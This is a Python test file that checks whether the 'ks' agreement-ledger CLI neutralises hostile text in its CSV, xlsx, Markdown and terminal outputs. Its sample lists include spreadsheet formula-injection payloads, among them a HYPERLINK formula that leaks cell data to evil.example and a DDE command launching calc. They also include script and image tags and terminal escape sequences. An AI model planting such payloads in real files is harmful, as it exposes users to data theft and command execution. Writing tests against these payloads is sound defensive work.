"""Hostile text, property-based: formulas, markup and control characters in every output.

Generated titles, party names, notes, reasons and findings lead with formula characters
(`=`, `+`, `-`, `@`, tab, CR and their fullwidth forms), carry Markdown and HTML (`<img>`,
`<script>`, `![x](y)`, emphasis, code spans, entities), and, where a ledger was edited by
hand, control characters (ESC sequences, CR, newlines, C1, bidi overrides). Every output
format is parsed back and checked: no CSV cell a spreadsheet takes for a formula, no xlsx
formula cell, no raw HTML, link, image or emphasis in rendered Markdown, no raw control
character in any text or table; and JSON gives the stored value back exactly.

The writers' properties run KS_HYPOTHESIS_EXAMPLES examples (100 by default); the
end-to-end ones, which run a dozen `ks` commands in-process on a fresh copy of the reference
story per example, a tenth of that. Profiles (repeatable by default, exploring when
KS_HYPOTHESIS_EXAMPLES is set) come from tests/conftest.py.
"""

from __future__ import annotations

import contextlib
import csv
import io
import json
import os
import shutil
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from openpyxl import Workbook, load_workbook
from tests.conftest import (
    ON_POSTGRESQL,
    copy_ledger,
    direct,
    drop_trigger,
    every_trigger,
    refused_by_the_database,
)
from tests.test_injection import RAW_CONTROL

from kerjasama_cli import render, report_render, report_xlsx

EXAMPLES = int(os.environ.get("KS_HYPOTHESIS_EXAMPLES", "100"))
WRITER_SETTINGS = settings(max_examples=EXAMPLES, deadline=None, database=None)
COMMAND_SETTINGS = settings(
    max_examples=max(1, EXAMPLES // 10),
    deadline=None,
    database=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.filter_too_much],
)

# What makes a spreadsheet read a cell as a formula (OWASP, with NUL, LF and fullwidth forms).
FORMULA_STARTS = (
    "=",
    "+",
    "-",
    "@",
    "\t",
    "\r",
    "\n",
    "\x00",
    "\uff1d",
    "\uff0b",
    "\uff0d",
    "\uff20",
)
FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Klik")',
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)",
    "-2+3",
    "@SUM(A1)",
    "=1+1",
    "\uff1d1+1",
]
MARKUP = [
    "<img src=http://evil.example/p.png>",
    "<script>alert(1)</script>",
    "![x](http://evil.example/t.png)",
    "[Klik](http://evil.example)",
    "<http://evil.example>",
    "<a href='http://evil.example'>x</a>",
    "<!-- komentar -->",
    "*tebal*",
    "**tebal**",
    "_miring_",
    "`kode`",
    "~~coret~~",
    "&lt;b&gt;",
    "&#60;img&#62;",
    "| pipa |",
    "\\",
    "\\*",
    "# judul",
    "[x]: http://evil.example",
    "<",
    ">",
    "&",
]
CONTROLS = [
    "\x1b[2J",
    "\x1b[31m",
    "\x1b]0;judul\x07",
    "\r",
    "\n",
    "\t",
    "\x00",
    "\x7f",
    "\x9b2J",
    "\x85",
    "\u2028",
    "\u2029",
    "\u202e",
    "\u2066",
]
# Text ks accepts from the command line: no control characters (ks refuses those), no lone
# surrogates (not text), not blank.
accepted_characters = st.characters(
    blacklist_categories=("Cc", "Cs"), blacklist_characters="\u2028\u2029"
)
plain_text = st.text(accepted_characters, max_size=12)
formula_text = st.builds(
    lambda start, rest: start + rest, st.sampled_from(FORMULA_STARTS[:4] + FORMULA_STARTS[8:]),
    plain_text,
) | st.sampled_from(FORMULAS)  # fmt: skip
markup_text = st.lists(st.sampled_from(MARKUP) | plain_text, min_size=1, max_size=4).map(" ".join)
accepted_texts = st.one_of(
    formula_text, markup_text, plain_text, st.sampled_from(FORMULAS + MARKUP)
)
# Text a hand-edited ledger can hold: anything SQLite stores as UTF-8.
stored_characters = st.characters(blacklist_categories=("Cs",))
any_texts = st.one_of(
    accepted_texts,
    st.text(stored_characters, max_size=20),
    st.lists(
        st.sampled_from(CONTROLS + FORMULAS + MARKUP) | st.text(stored_characters, max_size=4),
        min_size=1,
        max_size=5,
    ).map("".join),
    st.builds(lambda s, t: s + t, st.sampled_from(FORMULA_STARTS), st.text(stored_characters)),
)


def assert_no_raw_control(text: str, tabs_per_line: int | None = None) -> None:
    for line in text.split("\n")[:-1] if text.endswith("\n") else text.split("\n"):
        if tabs_per_line is not None:
            assert line.count("\t") == tabs_per_line, repr(line)
            line = line.replace("\t", "")
        assert not RAW_CONTROL.search(line), repr(line)


# --- the writers ------------------------------------------------------------------------------


@WRITER_SETTINGS
@given(any_texts)
def test_visible_leaves_no_control_character_and_keeps_plain_text(text: str) -> None:
    shown = render.visible(text)
    assert not RAW_CONTROL.search(shown)
    if not RAW_CONTROL.search(text):
        assert shown == text  # ordinary text (Arabic, emoji, combining marks) is untouched


@WRITER_SETTINGS
@given(st.lists(st.tuples(any_texts, st.integers(-(10**6), 10**6), any_texts), max_size=5))
def test_csv_parses_back_with_no_formula_and_numbers_as_numbers(
    rows: list[tuple[str, int, str]],
) -> None:
    columns = [("title", ""), ("days", ""), ("party", "")]
    out = io.StringIO()
    render.write_csv(({"title": t, "days": d, "party": p} for t, d, p in rows), columns, out)
    parsed = list(csv.reader(io.StringIO(out.getvalue())))
    assert parsed[0] == ["title", "days", "party"] and len(parsed) == len(rows) + 1
    for (title, days, party), (title_cell, days_cell, party_cell) in zip(
        rows, parsed[1:], strict=True
    ):
        assert days_cell == str(days)  # a negative count is a number: no quote
        for value, cell in ((title, title_cell), (party, party_cell)):
            assert not cell.startswith(FORMULA_STARTS)
            assert not RAW_CONTROL.search(cell)
            shown = render.visible(value)
            assert cell == ("'" + shown if shown.startswith(FORMULA_STARTS) else shown)


@WRITER_SETTINGS
@given(st.lists(st.tuples(any_texts, any_texts), max_size=5))
def test_plain_rows_stay_one_line_each_with_their_columns(rows: list[tuple[str, str]]) -> None:
    out = io.StringIO()
    render.write_plain(({"a": a, "b": b} for a, b in rows), [("a", "A"), ("b", "B")], out)
    text = out.getvalue()
    assert text.count("\n") == len(rows) + 1
    assert_no_raw_control(text, tabs_per_line=1)
    assert text.splitlines()[1:] == [f"{render.visible(a)}\t{render.visible(b)}" for a, b in rows]


@WRITER_SETTINGS
@given(st.lists(st.tuples(any_texts, any_texts), min_size=1, max_size=4))
def test_a_terminal_table_shows_no_control_character(rows: list[tuple[str, str]]) -> None:
    out = io.StringIO()
    with pytest.MonkeyPatch.context() as patch, contextlib.redirect_stdout(out):
        patch.setattr(render, "on_terminal", lambda stream=None: True)
        render.write_table(
            ({"key": a, "title": b} for a, b in rows), [("key", "K"), ("title", "T")]
        )
    assert "┃" in out.getvalue() or "│" in out.getvalue()
    assert_no_raw_control(out.getvalue())


PARSER = MarkdownIt("commonmark").enable("table")
MARKUP_TOKENS = {
    "html_block",
    "html_inline",
    "link_open",
    "image",
    "code_inline",
    "em_open",
    "strong_open",
    "s_open",
    "heading_open",
    "blockquote_open",
    "bullet_list_open",
    "ordered_list_open",
    "hr",
    "code_block",
    "fence",
}


def inline_texts(source: str) -> tuple[set[str], list[str]]:
    """The token types a Markdown source renders to, and the text of each inline run."""
    tokens = PARSER.parse(source)
    types = {t.type for t in tokens} | {c.type for t in tokens for c in t.children or []}
    texts = [
        "".join(c.content for c in t.children or [] if c.type == "text")
        for t in tokens
        if t.type == "inline"
    ]
    return types, texts


@WRITER_SETTINGS
@given(any_texts, any_texts)
def test_a_markdown_value_renders_as_exactly_its_text(cell: str, line: str) -> None:
    md = report_render._md
    source = f"| Judul |\n|---|\n| {md(cell)} |\n\nKeterangan: {md(line)}\n"
    types, texts = inline_texts(source)
    assert not types & MARKUP_TOKENS, (source, types)
    page = PARSER.render(source)
    for tag in ("<img", "<script", "<a ", "<em>", "<code>", "<strong>", "<!--"):
        assert tag not in page
    # Cells and lines are trimmed of white space at their ends; the text inside is kept.
    assert texts == [
        "Judul",
        render.visible(cell).strip(),
        f"Keterangan: {render.visible(line)}".strip(),
    ]


@WRITER_SETTINGS
@given(st.lists(st.lists(any_texts | st.integers(0, 10**6), min_size=1, max_size=3), max_size=4))
def test_xlsx_cells_are_strings_never_formulas(rows: list[list[str | int]]) -> None:
    book = Workbook(write_only=True)
    # The two ways the report writes a text: a string cell (the sections), and a plain value
    # unless openpyxl would read it as a formula or an error (the register, a million rows).
    writers = {book.create_sheet("bagian"): report_xlsx._text}
    writers[book.create_sheet("daftar")] = report_xlsx._plain
    for sheet, write in writers.items():
        for values in rows:
            sheet.append([write(sheet, v) if isinstance(v, str) else v for v in values])
    out = io.BytesIO()
    book.save(out)
    for read in load_workbook(io.BytesIO(out.getvalue())).worksheets:
        for values, cells in zip(rows, read.iter_rows(), strict=False):
            for value, cell in zip(values, cells, strict=False):
                assert cell.data_type != "f"
                expected = render.visible(value) if isinstance(value, str) else value
                assert cell.value == (expected if expected != "" else None)


# --- end to end: ks on the reference story with hostile words ---------------------------------


@dataclass
class Outcome:
    code: int
    out: str
    err: str


def ks_in_process(*argv: str, terminal: bool = False) -> Outcome:
    """Run `ks` through kerjasama_cli.cli.main, capturing exit code and output."""
    from kerjasama_cli.cli import main

    out, err = io.StringIO(), io.StringIO()
    code: int
    with (
        pytest.MonkeyPatch.context() as patch,
        contextlib.redirect_stdout(out),
        contextlib.redirect_stderr(err),
    ):
        if terminal:
            patch.setattr(render, "on_terminal", lambda stream=None: True)
        try:
            main(list(argv))
            code = 0
        except SystemExit as exc:
            code = exc.code if isinstance(exc.code, int) else 0 if exc.code is None else 1
    return Outcome(code, out.getvalue(), err.getvalue())


@dataclass
class Story:
    template: Path
    edited: Path
    work: Path
    folder: Path  # for the outputs

    def fresh(self, source: Path) -> Path:
        if ON_POSTGRESQL:
            copy_ledger(source, self.work)
            return self.work
        for suffix in ("", "-wal", "-shm", "-journal"):
            Path(f"{self.work}{suffix}").unlink(missing_ok=True)
        shutil.copyfile(source, self.work)
        return self.work

    def ks(self, *argv: str, terminal: bool = False) -> Outcome:
        return ks_in_process("--db", str(self.work), "--by", "penguji", *argv, terminal=terminal)

    def ok(self, *argv: str, terminal: bool = False) -> str:
        outcome = self.ks(*argv, terminal=terminal)
        assert outcome.code in (0, 1), outcome.err  # 1: ks check and verify found problems
        return outcome.out

    def json(self, *argv: str) -> Any:
        return json.loads(self.ok(*argv, "--format", "json"))


@pytest.fixture(scope="module")
def story(
    story_source: Path,
    new_ledger: Callable[[Path, str], Path],
    tmp_path_factory: pytest.TempPathFactory,
) -> Iterator[Story]:
    folder = tmp_path_factory.mktemp("injection")
    template = copy_ledger(story_source, new_ledger(folder, "template.sqlite"))
    edited = copy_ledger(story_source, new_ledger(folder, "edited.sqlite"))
    with direct(edited) as conn:
        for name, table in every_trigger(conn):
            conn.execute(drop_trigger(f'"{name}"', table, edited))
    with pytest.MonkeyPatch.context() as patch:
        patch.delenv("KS_DEBUG", raising=False)
        yield Story(template, edited, new_ledger(folder, "work.sqlite"), folder)


AS_OF = ("--as-of", "2022-09-10")
SINCE = ("--since", "2022-07-01")  # every signature and handover of the story, and ours


def check_outputs(story: Story, key: str) -> None:
    """Every output format of the ledger parsed back: nothing live, nothing raw.

    (`ks db status` and `ks verify`, which quote no title or name, are checked on a
    hand-edited ledger in tests/test_injection.py.)
    """
    for args, tabs in ((("list", *AS_OF), 4), (("pending", *AS_OF), 4), (("log",), 3)):
        assert_no_raw_control(story.ok(*args), tabs_per_line=tabs)
        on_terminal = (*args, "--all") if args[0] == "pending" else args
        assert_no_raw_control(story.ok(*on_terminal, terminal=True))
    assert_no_raw_control(story.ok("show", key))
    checked = story.ks("check", *AS_OF)
    assert_no_raw_control(checked.out + checked.err)
    for args in (("list", *AS_OF), ("pending", *AS_OF)):
        for row in csv.reader(io.StringIO(story.ok(*args, "--format", "csv"))):
            for cell in row:
                assert not cell.startswith(FORMULA_STARTS) and not RAW_CONTROL.search(cell), cell
    for row in csv.reader(io.StringIO(story.ok("report", "-f", "csv", *AS_OF, *SINCE))):
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS) and not RAW_CONTROL.search(cell), cell
    markdown = story.ok("report", "-f", "md", *AS_OF, *SINCE)
    assert_no_raw_control(markdown)
    types, _ = inline_texts(markdown)
    assert not types & {"html_block", "html_inline", "link_open", "image", "em_open",
                        "strong_open", "s_open"}, types  # fmt: skip
    xlsx = story.folder / "work.xlsx"
    story.ok("report", "-f", "xlsx", "--out", str(xlsx), *AS_OF, *SINCE)
    for sheet in load_workbook(xlsx).worksheets:
        for cells in sheet.iter_rows():
            assert all(cell.data_type != "f" for cell in cells)


@COMMAND_SETTINGS
@given(title=accepted_texts, name=accepted_texts, note=accepted_texts, reason=accepted_texts,
       finding=accepted_texts)  # fmt: skip
def test_hostile_words_entered_through_ks_come_out_inert(
    story: Story, title: str, name: str, note: str, reason: str, finding: str
) -> None:
    for text in (title, name, note, reason, finding):
        assume(text.strip())
    story.fresh(story.template)
    added = story.ks("party", "add", name, "--region", "jatim", "--alias", "uji-jatim")
    assume(added.code == 0)  # a name that is a region's, or already a party's, is refused
    key = story.ok("add-agreement", "--kind", "ksb", "--title", title, "--party", "kaltim",
                   "--party", "uji-jatim", "--date", "2022-09-01").strip()  # fmt: skip
    assert key == "KSB-2022-0002"
    story.ok("handover", key, "--to", "uji-jatim", "--date", "2022-09-01", "--note", note)
    story.ok("sign", key, "--party", "kaltim", "--date", "2022-09-02")
    story.ok("sign", key, "--party", "uji-jatim", "--date", "2022-09-02")
    story.ok("terminate", key, "--date", "2022-09-05", "--reason", reason)
    story.ok("evaluate", key, "--date", "2022-09-06", "--finding", finding,
             "--recommendation", "stop")  # fmt: skip
    check_outputs(story, key)
    detail = story.json("show", key)
    assert (
        detail["title"] == title and detail["parties"][1]["party"] == name.strip()
    )  # names are trimmed
    assert detail["handovers"][0]["note"] == note
    assert detail["evaluation"]["finding"] == finding
    report = story.json("report", *AS_OF, *SINCE)
    assert report["changes"]["ended"][0]["reason"] == reason
    listed = {row["key"]: row for row in story.json("list", *AS_OF)}
    assert listed[key]["title"] == title


@COMMAND_SETTINGS
@given(title=any_texts, name=any_texts, by=any_texts, note=any_texts)
def test_a_ledger_edited_by_hand_never_reaches_a_terminal_raw(
    story: Story, title: str, name: str, by: str, note: str
) -> None:
    # PostgreSQL's text cannot hold NUL: nobody can write one into a database.
    assume(not ON_POSTGRESQL or "\x00" not in title + name + by + note)
    work = story.fresh(story.edited)
    with direct(work) as conn:
        conn.execute("UPDATE agreement SET title = ? WHERE key = 'PKS-2022-0005'", (title,))
        conn.execute("UPDATE entry SET recorded_by = ? WHERE seq = 3", (by,))
        conn.execute("UPDATE handover SET note = ?", (note,))
        try:
            conn.execute(
                "UPDATE party SET name = ? WHERE name = 'Dinas Kebudayaan dan Pariwisata "
                "Provinsi Jawa Timur'",
                (name,),
            )
        except refused_by_the_database(work, "IntegrityError"):  # another party's name
            assume(False)
    check_outputs(story, "PKS-2022-0005")
    assert story.json("show", "PKS-2022-0005")["title"] == title
    assert story.json("log")[2]["recorded_by"] == by
    parties = [side["party"] for side in story.json("show", "PKS-2022-0005")["parties"]]
    assert parties[1] == name
    pending = story.json("pending", *AS_OF)
    assert {row["title"] for row in pending if row["agreement"] == "PKS-2022-0005"} == {title}
